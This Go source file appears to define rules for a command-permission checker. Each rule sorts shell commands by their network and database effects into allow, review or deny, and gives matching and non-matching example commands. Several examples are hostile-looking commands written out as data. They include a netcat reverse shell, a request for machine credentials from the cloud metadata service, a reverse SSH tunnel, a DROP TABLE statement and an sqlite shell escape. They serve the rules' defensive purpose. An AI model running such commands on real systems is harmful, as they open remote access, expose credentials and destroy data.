package effects

// networkRules speak about requests, and about what databases are told.
func networkRules() []Rule {
	return append(requestRules(), databaseRules()...)
}

func requestRules() []Rule {
	return []Rule{
		{
			ID: "request-computed", Sentence: "A part of a request is computed, or it goes to no plain http address.", Decision: Review,
			Hit: sh(`curl "$URL"`), Miss: sh("curl https://example.com/"),
		},
		{
			ID: "request-rerouted", Sentence: "Settings lead a request elsewhere than its address says, or have it do more.", Decision: Review,
			Hit: sh("curl -x proxy.example.com:3128 https://example.com/"), Miss: sh("curl -L https://example.com/"),
		},
		{
			ID: "metadata-asked", Sentence: "The service of the cloud is asked that hands out a machine's credentials.", Decision: Review,
			Hit: sh("curl http://169.254.169.254/latest/meta-data/"), Miss: sh("curl http://169.0.0.1/"),
		},
		{
			ID: "credentials-given", Sentence: "A request carries a name and password, or a key.", Decision: Review,
			Hit: sh("curl -u admin:admin http://localhost:9200/"), Miss: sh("curl http://localhost:9200/"),
		},
		{
			ID: "tunnel-opened", Sentence: "A way into this machine, or through it, is opened.", Decision: Review,
			Hit: sh("ssh -N -R 8080:localhost:80 build.example.com"), Miss: sh("ssh -V"),
		},
		{
			ID: "shell-offered", Sentence: "A shell or program is offered to whoever is at the other end.", Decision: Deny, Guard: true,
			Hit: sh("nc -e /bin/sh 192.0.2.1 4444"), Miss: sh("nc -z example.com 443"),
		},
		{
			ID: "mail-sent", Sentence: "A message is sent to people.", Decision: Review,
			Hit: sh("mail -s hello alice@example.com < notes.txt"), Miss: sh("cat notes.txt"),
		},
	}
}

func databaseRules() []Rule {
	return []Rule{
		{
			ID: "database-asked", Sentence: "A database is only asked for what it has.", Decision: Allow,
			Hit: sh("psql -c 'SELECT 1'"), Miss: sh("psql -c 'UPDATE users SET name = 1'"),
		},
		{
			ID: "database-destroys", Sentence: "Tables, databases or rows would be lost.", Decision: Review,
			Hit: sh("psql -c 'DROP TABLE users'"), Miss: sh("psql -c 'CREATE TABLE users (id int)'"),
		},
		{
			ID: "database-runs", Sentence: "A database's client or server would start a program, or load code.", Decision: Review,
			Hit: sh(`sqlite3 app.db '.shell ls'`), Miss: sh(`sqlite3 app.db '.tables'`),
		},
		{
			ID: "statements-unknown", Sentence: "Which statements a database is given, or what they do, is not known.", Decision: Review,
			Hit: sh(`psql -c "$QUERY"`), Miss: sh("psql -c 'SELECT 1'"),
		},
	}
}
